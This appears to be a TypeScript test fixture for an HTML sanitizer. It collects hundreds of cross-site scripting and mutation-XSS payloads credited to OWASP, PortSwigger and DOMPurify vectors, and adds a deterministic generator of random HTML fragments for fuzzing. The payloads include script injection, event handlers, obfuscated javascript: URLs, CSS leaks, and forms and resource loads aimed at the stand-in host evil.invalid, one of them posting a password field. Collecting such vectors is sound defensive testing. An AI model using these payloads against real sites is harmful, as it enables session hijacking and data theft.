// Texts that attempt to inject a script, an event handler, a style or a hidden URL. From the cheat sheets of OWASP and PortSwigger, the test vectors
// of DOMPurify and known ways to make a browser parse its own output differently (mutation XSS).

const run = "alert(1)";

const written = `<script>${run}</script>
<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>
<scr<script>ipt>${run}</scr</script>ipt>
<script/src=data:,${run}></script>
<script>${run}
<svg><script>${run}</script></svg>
<svg/onload=${run}>
<svg><animate onbegin=${run} attributeName=x></svg>
<svg><set attributeName=href to=javascript:${run} /><a id=x><text>a</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${run}'/></svg>#x"></use></svg>
<svg><a xlink:href="javascript:${run}"><text y=20>a</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=${run}></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=${run}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">
<math><mtext><table><mglyph><style><math><img src=x onerror=${run}></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>
<math><mi xlink:href="data:x,<script>${run}</script>">a</mi></math>
<math href="javascript:${run}">a</math>
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<noembed><p title="</noembed><img src=x onerror=${run}>"></noembed>
<noframes><p title="</noframes><img src=x onerror=${run}>"></noframes>
<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>
<textarea><p title="</textarea><img src=x onerror=${run}>"></textarea>
<title><p title="</title><img src=x onerror=${run}>"></title>
<style><p title="</style><img src=x onerror=${run}>"></style>
<template><p title="</template><img src=x onerror=${run}>"></template>
<iframe><p title="</iframe><img src=x onerror=${run}>"></iframe>
<select><p title="</select><img src=x onerror=${run}>"></select>
<listing>&lt;img src=x onerror=${run}&gt;</listing>
<pre>
&lt;img src=x onerror=${run}&gt;</pre>
<plaintext><img src=x onerror=${run}>
<!--><img src=x onerror=${run}>-->
<!--<img src="--><img src=x onerror=${run}//">
<!---><img src=x onerror=${run}>--->
<!-- --!><img src=x onerror=${run}>-->
<![CDATA[<img src=x onerror=${run}>]]>
<svg><![CDATA[><img src=x onerror=${run}>]]></svg>
<?xml version="1.0"?><img src=x onerror=${run}>
<?php echo ?><img src=x onerror=${run}>
<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${run}>">]>&x;
<img src=x onerror=${run}>
<img src=x onerror="${run}"
<img src="x\`\` onerror=${run}">
<img """><script>${run}</script>">
<img src=x:x onerror\u000b=${run}>
<img/src=x/onerror=${run}>
<img src='x'onerror='${run}'>
<img src="x" alt="\`\`onerror=${run}">
<img src="javascript:${run}">
<img src=x data-focus="30 70" onerror=${run}>
<img src=x data-focus='30 70"><script>${run}</script>'>
<img src=x data-focus="30 70;background:url(javascript:${run})">
<a href="javascript:${run}" data-ean="9782070300952">a</a>
<a href=/l data-ean='9782070300952"><img src=x onerror=${run}>'>a</a>
<a href=/l data-ean="9782070300952"><svg onload=${run}></svg><img src=x onerror=${run}></a>
<a href=/l data-ean=9782070300952 onclick=${run}>a</a>
<a data-ean="9782070300952" href="data:text/html,<script>${run}</script>">a</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img srcset="https://evil.invalid/x.png 1x">
<img src=x srcset="//evil.invalid/x.png 2x" sizes=100vw>
<img lowsrc="javascript:${run}" dynsrc="javascript:${run}">
<img src=x usemap="#m"><map name=m><area href="javascript:${run}" shape=default></map>
<image src=x onerror=${run}>
<image href=x onerror=${run}>
<picture><source srcset="//evil.invalid/x.png" onerror=${run}><img src=x onerror=${run}></picture>
<video src=x onerror=${run}></video>
<video><source onerror=${run}></video>
<video poster="javascript:${run}"></video>
<audio src=x onerror=${run}></audio>
<track src="//evil.invalid/x">
<a href="javascript:${run}">a</a>
<a href="JaVaScRiPt:${run}">a</a>
<a href=" javascript:${run}">a</a>
<a href="&#106;avascript:${run}">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${run}">a</a>
<a href="java&#x09;script:${run}">a</a>
<a href="java&#x0A;script:${run}">a</a>
<a href="java&#x0D;script:${run}">a</a>
<a href="java&NewLine;script:${run}">a</a>
<a href="javascript&colon;${run}">a</a>
<a href="&#1;javascript:${run}">a</a>
<a href="\u0001javascript:${run}">a</a>
<a href="java\u0000script:${run}">a</a>
<a href="\u00a0javascript:${run}">a</a>
<a href="data:text/html,<script>${run}</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="livescript:${run}">a</a>
<a href="file:///etc/passwd">a</a>
<a href="blob:https://evil.invalid/x">a</a>
<a href="feed:javascript:${run}">a</a>
<a href="view-source:javascript:${run}">a</a>
<a href="filesystem:https://evil.invalid/x">a</a>
<a href="intent://x#Intent;scheme=http;end">a</a>
<a href="https://ok.invalid" ping="//evil.invalid">a</a>
<a href="https://ok.invalid" target=_top onclick=${run}>a</a>
<a href="https://ok.invalid" style="position:fixed;inset:0">a</a>
<a href='https://ok.invalid" onmouseover="${run}'>a</a>
<a href="https://ok.invalid" title='"><img src=x onerror=${run}>'>a</a>
<a name=body id=head href=x>a</a>
<a id=documentElement><a id=documentElement name=x href=x>
<iframe src="javascript:${run}"></iframe>
<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>
<iframe src="//evil.invalid" onload=${run}></iframe>
<frameset onload=${run}><frame src="javascript:${run}"></frameset>
<object data="javascript:${run}"></object>
<object data="data:text/html,<script>${run}</script>" type="text/html"></object>
<embed src="javascript:${run}">
<applet code=x archive="//evil.invalid/x.jar"></applet>
<base href="javascript:${run}//"><a href="x">a</a>
<base href="//evil.invalid/">
<link rel=stylesheet href="//evil.invalid/x.css">
<link rel=import href="//evil.invalid/x.html">
<link rel=prefetch href="//evil.invalid/x">
<meta http-equiv=refresh content="0;url=javascript:${run}">
<meta http-equiv=refresh content="0;url=//evil.invalid">
<meta charset=utf-7>+ADw-script+AD4-${run}+ADw-/script+AD4-
<style>@import "//evil.invalid/x.css";</style>
<style>*{background:url(//evil.invalid/x)}</style>
<style>p{x:expression(${run})}</style>
<p style="background:url(//evil.invalid/x)">a</p>
<p style="width:expression(${run})">a</p>
<p style="behavior:url(//evil.invalid/x.htc)">a</p>
<p style="-moz-binding:url(//evil.invalid/x.xml#x)">a</p>
<table background="//evil.invalid/x"><tr><td background="//evil.invalid/x">a</td></tr></table>
<body onload=${run} background="//evil.invalid/x">
<body><body onpageshow=${run}>
<html onclick=${run} manifest="//evil.invalid/x">
<form action="javascript:${run}"><button>a</button></form>
<form><button formaction="javascript:${run}">a</button></form>
<form id=x></form><button form=x formaction="javascript:${run}">a</button>
<form><input name=attributes><input name=parentNode></form>
<form><input name=nodeName><input id=firstChild></form>
<input type=image src=x onerror=${run}>
<input autofocus onfocus=${run}>
<isindex action="javascript:${run}" type=image>
<keygen autofocus onfocus=${run}>
<button popovertarget=x>a</button><div popover id=x onbeforetoggle=${run}>b</div>
<dialog open onclose=${run}><form method=dialog><button>a</button></form></dialog>
<details open ontoggle=${run}><summary>a</summary></details>
<marquee onstart=${run}>a</marquee>
<bgsound src="javascript:${run}">
<layer src="//evil.invalid/x"></layer>
<ilayer src="//evil.invalid/x"></ilayer>
<xss id=x tabindex=1 onfocus=${run}></xss>
<custom-element onclick=${run}>a</custom-element>
<p is=x-evil onclick=${run}>a</p>
<p slot=x part=y exportparts=z>a</p>
<p data-x="1" aria-label="x" role=button tabindex=0 contenteditable>a</p>
<p accesskey=x onclick=${run}>a</p>
<p xml:base="javascript:${run}//">a</p>
<p xmlns="http://www.w3.org/2000/svg"><script>${run}</script></p>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>
<div><template shadowrootmode=open><script>${run}</script></template></div>
<template><template><img src=x onerror=${run}></template></template>
<ul><li><script>${run}</script>a</li></ul>
<ul onclick=${run}><script>${run}</script><li onclick=${run}>a</ul>
<ol start="1;${run}"><li value="x">a</li></ol>
<blockquote cite="javascript:${run}">a</blockquote>
<q cite="javascript:${run}">a</q>
<ins cite="javascript:${run}" datetime=x>a</ins>
<del cite="javascript:${run}">a</del>
<h2><p><h3 onclick=${run}>a</h2>
<p><p><p onclick=${run}>a
<table><a href="javascript:${run}">a<table><a href="x">b
<a><table><td><a><table></table><a></tr><a></table><b>X</b>rest
<b><i><b><i><b onclick=${run}>a</i></b>
<p>a<strong>b<p>c</strong>d
<em><ul><li>a</em>b</ul>c
<sup><h2>a</sup></h2>
</p></br></script></style><img src=x onerror=${run}>
<p/onclick=${run}>a
<p onclick
=${run}>a
<p "onclick=${run}">a
<p 'a'onclick='${run}'>b
<p a="<script>${run}</script>">b
<p title="&lt;/p&gt;&lt;img src=x onerror=${run}&gt;">b
&lt;img src=x onerror=${run}&gt;
&amp;lt;img src=x onerror=${run}&amp;gt;
%3Cimg src=x onerror=${run}%3E
\u003cimg src=x onerror=${run}\u003e
<\u0000script>${run}</\u0000script>
<scr\u0000ipt>${run}</scr\u0000ipt>
<img src=x o\u0000nerror=${run}>
< script>${run}</ script>
<<script>${run}//<</script>
<script >${run}</script >
<script\u000d>${run}</script\u000d>
\ufeff<script>${run}</script>
<ſcript>${run}</ſcript>
<İMG src=x onerror=${run}>
<a href="ja\u00advascript:${run}">a</a>
<a href="javascript\u200b:${run}">a</a>
<a href="https://ok.invalid/\u202etxt.exe">a</a>
<a href="https://user:pass@evil.invalid">a</a>
<a href="//evil.invalid">a</a>
<a href="\\\\evil.invalid">a</a>
<a href="https:evil.invalid">a</a>
<a href="http://[">a</a>
<a href="?x=<script>${run}</script>">a</a>
<img src="?x=<img onerror=${run}>" alt="</p><script>${run}</script>">
<img src=x alt="--><img src=x onerror=${run}>">
<img src=x title="]]><script>${run}</script>">
<img src=x alt="</style><img src=x onerror=${run}>">
<svg><title><style><img src=x onerror=${run}></style></title></svg>
<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>
<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">
<math><mtext><table><mglyph><style><![CDATA[</style><img title="]]&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=${run}&gt;">
<svg><noscript><style></noscript><img src=x onerror=${run}></style>
<noscript><style></noscript><img src=x onerror=${run}></style></noscript>
<template><style></template><img src=x onerror=${run}></style>
<select><template><style></select><img src=x onerror=${run}></style></template>
<!--${"-->".repeat(2)}<img src=x onerror=${run}><!--
<!-- <!-- --> --><script>${run}</script>
<!--\u0000--><img src=x onerror=${run}>
<%<!--'%><script>${run}</script -->
</#x"><img src=x onerror=${run}>
</ x='--><img src=x onerror=${run}>'>
<?<img src=x onerror=${run}>?>
<!<img src=x onerror=${run}>>
<a href='x' title='"onmouseover=${run} a="'>a</a>
<a href="&#0106avascript:${run}">a</a>
<a href="&#x000006A;avascript&colon;${run}">a</a>
<a href="&Tab;java&Tab;script&colon;${run}">a</a>
<a href="j&#97v&#97script&#x3A;${run}">a</a>
<a href="\tj\ta\tv\ta\tscript:${run}">a</a>
<a href="\u2028javascript:${run}">a</a>
<a href="vb&#115;cript:msgbox(1)">a</a>
<a href=" v b s c r i p t :msgbox(1)">a</a>
<a href="DATA:text/html,<svg onload=${run}>">a</a>
<a href="da&#x0A;ta:text/html,<svg onload=${run}>">a</a>
<img src="vbscript:msgbox(1)">
<img src="mailto:a@b.fr">
<img src="&#x09;data:image/svg+xml,<svg onload=${run}>">
<img src="blob:https://evil.invalid/x">
<img src=/a.jpg srcset="data:,x 1x, javascript:${run} 2x">
<img src=/a.jpg imagesrcset="//evil.invalid/x 1x">
<img src=/a.jpg crossorigin=use-credentials referrerpolicy=unsafe-url>
<img src=/a.jpg longdesc="javascript:${run}">
<p style="background:u\\72l(//evil.invalid/x)">a</p>
<p style="width:e/**/xpression(${run})">a</p>
<p style="@import '//evil.invalid/x.css'">a</p>
<p style="list-style-image:image-set('//evil.invalid/x' 1x)">a</p>
<style>@im\\port'//evil.invalid/x.css';</style>
<style>@font-face{font-family:x;src:url(//evil.invalid/x)}</style>
<style>input[value^=a]{background:url(//evil.invalid/a)}</style>
<link rel=preconnect href=//evil.invalid><link rel=dns-prefetch href=//evil.invalid>
<link rel=icon href="//evil.invalid/x.ico">
<meta http-equiv="Refresh" content="0;URL='data:text/html,<script>${run}</script>'">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=Set-Cookie content="x=1">
<meta name=referrer content=unsafe-url>
<base target=_top><base href=//evil.invalid/a/>
<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>parent.${run}</script>"></iframe>
<iframe/src="data:text/html,<script>${run}</script>">
<iframe loading=lazy src=//evil.invalid/x>
<fencedframe src=//evil.invalid></fencedframe>
<portal src=//evil.invalid onclick=${run}></portal>
<form action=//evil.invalid><input type=submit value=a><input name=password autocomplete=current-password></form>
<form target=_blank action=//evil.invalid method=post><textarea name=x>
<input type=submit formaction="//evil.invalid" value=a>
<object type=image/svg+xml data=//evil.invalid/x.svg></object>
<video src=//evil.invalid/x autoplay></video>
<audio src=//evil.invalid/x autoplay controls></audio>
<video><track default src=//evil.invalid/x></video>
<svg><image href=//evil.invalid/x /></svg>
<svg><feImage href=//evil.invalid/x /></svg>
<svg><use href=//evil.invalid/x#a /></svg>
<svg><handler type="application/ecmascript">${run}</handler></svg>
<svg><script href="//evil.invalid/x.js" /></svg>
<math><maction actiontype="statusline" xlink:href="javascript:${run}">a</maction></math>
<script type=module>import("//evil.invalid/x.js")</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//evil.invalid/x"]}]}</script>
<script type=importmap>{"imports":{"a":"//evil.invalid/x.js"}}</script>
<a href=//evil.invalid attributionsrc>a</a>
<constructor onclick=${run}>a</constructor>
<__proto__ onclick=${run}>a</__proto__>
<p __proto__=x constructor=y onclick=${run}>a</p>
<hasOwnProperty>a</hasOwnProperty>
<img src="/a.jpg" alt='"><script>${run}</script>'>
<a href="/x?a=&quot;><img src=x onerror=${run}>">a</a>
<p>&#60;script&#62;${run}&#60;/script&#62;</p>
<p>&lt;/p&gt;&lt;svg onload=${run}&gt;</p>
<a href="/&quot;onclick=&quot;${run}" title="&quot;&gt;&lt;svg onload=${run}&gt;">a</a>
<table><style><img src=x onerror=${run}></style><tr><td>a</table>
<table><style><!--</style><tr title="--><img src=x onerror=${run}>"><td>a</table>
<table><tr><td><style></td></tr></table><img src=x onerror=${run}></style>
<table><script>${run}</script><tr><td>a</td></tr></table>
<table><tr><script>${run}</script><td>a</td></tr></table>
<table><img src=x onerror=${run}><tr><td>a</td></tr></table>
<table><tr><img src=x onerror=${run}><td>a</td></tr></table>
<table><colgroup><img src=x onerror=${run}></colgroup><tr><td>a</table>
<table><caption><svg onload=${run}></caption><tr><td>a</table>
<table><caption><table><img src=x onerror=${run}></caption><td>a</table>
<table><a href="javascript:${run}"><td>a</td></a></table>
<table><a href="javascript:${run}">a<tr><td>b</a>c</td></tr></table>
<a href="https://ok.invalid"><table><td><a href="javascript:${run}">a</td></table></a>
<table><tr><td><a><table><a href="javascript:${run}">a</a></table></a></td></tr></table>
<table><svg><style><img src=x onerror=${run}></style></svg><tr><td>a</table>
<table><math><mtext><table><mglyph><style><img src=x onerror=${run}></style><tr><td>a</table>
<table><tr><td><svg><desc><table><td><style><img src=x onerror=${run}></style></table></svg></table>
<svg><table><tr><td><style><img src=x onerror=${run}></style></td></tr></table></svg>
<math><table><mi><style><img src=x onerror=${run}></style></table></math>
<math><mtext><table><tr><td><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table>
<table><select><tr><td><img src=x onerror=${run}></select></table>
<select><table><tr><td><img src=x onerror=${run}></table></select>
<table><template><tr><td><img src=x onerror=${run}></td></tr></template><td>a</table>
<table><noscript><tr><td title="</noscript><img src=x onerror=${run}>">a</noscript></table>
<table><textarea><tr><td title="</textarea><img src=x onerror=${run}>"></textarea></table>
<table><plaintext><tr><td><img src=x onerror=${run}>
<table><xmp><td title="</xmp><img src=x onerror=${run}>"></xmp></table>
<table><input type=hidden onfocus=${run} autofocus><tr><td>a</table>
<table><input type=image src=x onerror=${run}><tr><td>a</table>
<table><form><input name=attributes><tr><td><input name=parentNode></form></table>
<form><table><tr><td></form><form onsubmit=${run}><button>a</button></table>
<table><iframe src=//evil.invalid></iframe><tr><td>a</table>
<table><frameset onload=${run}><tr><td>a</table>
<table><body onload=${run}><tr><td>a</table>
<table><html onclick=${run}><head><tr><td>a</table>
<table><p><tr><p><td><p><svg/onload=${run}>a</table>
<table><b><tr><i><td><b></table><img src=x onerror=${run}></b></i>
<b><table><td></b><i></table><img src=x onerror=${run}></i>
<p><table><p><td><p></table><script>${run}</script>
<ul><table><li><td><li></table><svg onload=${run}></ul>
<table onclick=${run} background=//evil.invalid/x style="background:url(//evil.invalid/x)"><td>a</table>
<table><thead onclick=${run}><tr onclick=${run}><th onclick=${run} style="x:expression(${run})">a</table>
<table><tbody background=//evil.invalid/x><tr background=//evil.invalid/x><td background=//evil.invalid/x>a</table>
<table><tr><td colspan="2 onclick=${run}" rowspan='"><img src=x onerror=${run}>'>a</table>
<table><tr><th scope="col&quot; onmouseover=&quot;${run}" abbr="<script>${run}</script>" headers=x axis=y>a</table>
<table><tr><td colspan=99999999999 rowspan=65534>a<td colspan=-1 rowspan=0>b</table>
<table><tr><td colspan=&#x32; rowspan="&#106;avascript:${run}">a</table>
<table summary="--><img src=x onerror=${run}>"><tr><td nowrap valign="</style><svg onload=${run}>">a</table>
<table><tr><td><!--</td></tr></table><img src=x onerror=${run}>-->
<table><!--><img src=x onerror=${run}>--><tr><td>a</table>
<table><![CDATA[<tr><td><img src=x onerror=${run}>]]></table>
<table>&lt;img src=x onerror=${run}&gt;<tr>&lt;script&gt;${run}&lt;/script&gt;<td>a</table>
</table></td></tr><td onclick=${run}>a<tr onclick=${run}>b<tbody onclick=${run}>c
<table><table><table><td onclick=${run}><table><td onclick=${run}></table></td></table></table></table>
<table><tr></table><td></tr><img src=x onerror=${run}></td>
<table><col onclick=${run}><colgroup onclick=${run}><td>a</table>
<table><tr is=x-evil><td is=x-evil slot=y onclick=${run}>a</table>
<table><tr><td xmlns="http://www.w3.org/2000/svg"><script>${run}</script>a</table>
<x:table xmlns:x="http://www.w3.org/1999/xhtml"><x:td onclick=${run}>a</x:td></x:table>`.split("\n");

const handlers = [
  "onclick",
  "onerror",
  "onfocus",
  "onload",
  "onmouseenter",
  "onpointerrawupdate",
  "onanimationend",
  "onbeforematch",
  "onscrollsnapchange",
];

/** All attacks, each as a text. */
export const hostile: readonly string[] = [
  ...new Set([
    ...written,
    ...["p", "h2", "li", "a href=/x", "img src=x", "strong", "blockquote", "hr", "br", "sup", "table><td"].flatMap((tag) =>
      handlers.map((handler) => `<${tag} ${handler}=${run}>a`),
    ),
  ]),
];

const pieces = [
  ..."<p> </p> <ul> </ul> <ol start=2> <li> </li> <strong> </strong> <em> </em> <a href=/x> </a> <blockquote> </blockquote> <h2> </h2> <h1> <br> <hr> <sup> </sup> <img src=x>".split(
    " ",
  ),
  ..."<div> </div> <table> <tr> <td> </table> <form> </form> <svg> </svg> <math> <mtext> </math> <style> </style> <script> </script> <template> </template> <select> <option> <textarea> <title> <noscript> </noscript> <span> </span> <b> </b> <iframe> <xmp> <plaintext> <button> <a> <object> <body> <head>".split(
    " ",
  ),
  ..."<thead> </thead> <tbody> </tbody> <tfoot> <th> </th> </tr> </td> <td>a <td>b <caption> </caption> <colgroup> <col>".split(" "),
  ...[
    "a",
    " ",
    "\n",
    "&lt;",
    "&amp;",
    "&nbsp;",
    "&#0;",
    "\u0000",
    "\r\n",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?x",
    "<!x>",
    '"',
    "'",
    "`",
    "<",
    ">",
    "</",
    "/>",
    "é",
  ],
  ...[
    '<a title="',
    "<img alt='",
    "<p onclick=x>",
    '<a href=/l data-ean="9782070300952',
    "<a data-ean=9782070300952 href=/l>",
    '<img src=/a.jpg data-focus="30 70',
    '<a href="javascript:x">',
    '<img src="data:x">',
    "<p style='mso-list:l0'>",
    "<span style='mso-list:Ignore'>1.",
    "<td colspan=2>",
    "<td rowspan=3>",
    "<th rowspan=2 scope=row>",
  ],
];

/** Generates texts from pieces of HTML in random order; deterministic. */
export function* randomTexts(count: number): Generator<string> {
  let state = 20_261_121;
  const next = (below: number) => {
    // mulberry32
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
  for (let index = 0; index < count; index++) {
    yield Array.from({ length: 3 + next(24) }, () => pieces[next(pieces.length)]).join("");
  }
}
